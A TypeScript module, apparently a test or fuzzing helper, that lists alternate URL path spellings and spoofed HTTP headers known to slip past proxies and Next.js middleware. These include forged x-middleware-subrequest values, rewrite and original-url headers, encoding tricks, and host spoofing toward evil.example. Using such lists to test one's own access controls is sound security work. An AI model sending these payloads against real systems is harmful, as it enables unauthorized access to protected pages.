import type { OutgoingHttpHeaders } from "node:http";

/** Other spellings of a path, which have bypassed proxies, routers and filters. */
export const spellings = (path: string): string[] => [
  path,
  `${path}/`,
  `/${path}`,
  `//${path}//`,
  path.replace(/\/(?=.)/g, "//"),
  path.replace(/\/(?=.)/, "/./"),
  `/x/..${path}`,
  path.toUpperCase(),
  path.replace(/[a-z]/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  path.replace(/\/(?=.)/g, "/%2e/"),
  path.replace(/(?!^)\//g, "%2f"),
  path.replace(/(?!^)\//g, "\\"),
  `${path}.rsc`,
  `${path}.txt`,
  `${path}.json`,
  `${path}.segments/_tree.segment.rsc`,
  `${path}?_rsc=1`,
  `${path}?_rsc`,
  `${path}?__nextLocale=en&__nextDataReq=1`,
  `${path}?next=//evil.example&note[]=x&asked=1&asked=2`,
  `${path}?${"a".repeat(4_000)}`,
  `${path}%00`,
  `${path}%`,
  `${path}%ff%fe`,
  `${path};a=b`,
  `/_next/data/build${path === "/" ? "/index" : path}.json`,
];

/** Headers that have made servers or Next treat a request as another one. */
export const disguises: OutgoingHttpHeaders[] = [
  {},
  { rsc: "1" },
  { rsc: "1", "next-router-prefetch": "1" },
  { rsc: "1", "next-router-segment-prefetch": "/_tree" },
  { rsc: "1", "next-router-segment-prefetch": "/account/__PAGE__" },
  { rsc: "1", "next-router-state-tree": "%5B%22%22%2C%7B%7D%5D", "next-url": "/account" },
  { "x-nextjs-data": "1", "x-matched-path": "/account", "x-now-route-matches": "1" },
  { "x-middleware-rewrite": "/account", "x-middleware-next": "1" },
  { "x-middleware-subrequest": "proxy:proxy:proxy:proxy:proxy" },
  { "x-middleware-subrequest": "src/middleware:src/middleware:src/middleware:src/middleware" },
  { "x-middleware-prefetch": "1", purpose: "prefetch" },
  { "x-http-method-override": "POST", "next-action": "0".repeat(42) },
  { "x-forwarded-host": "evil.example", "x-forwarded-proto": "https", forwarded: "host=evil" },
  { "x-rewrite-url": "/mailbox", "x-original-url": "/mailbox", "x-invoke-path": "/mailbox" },
];
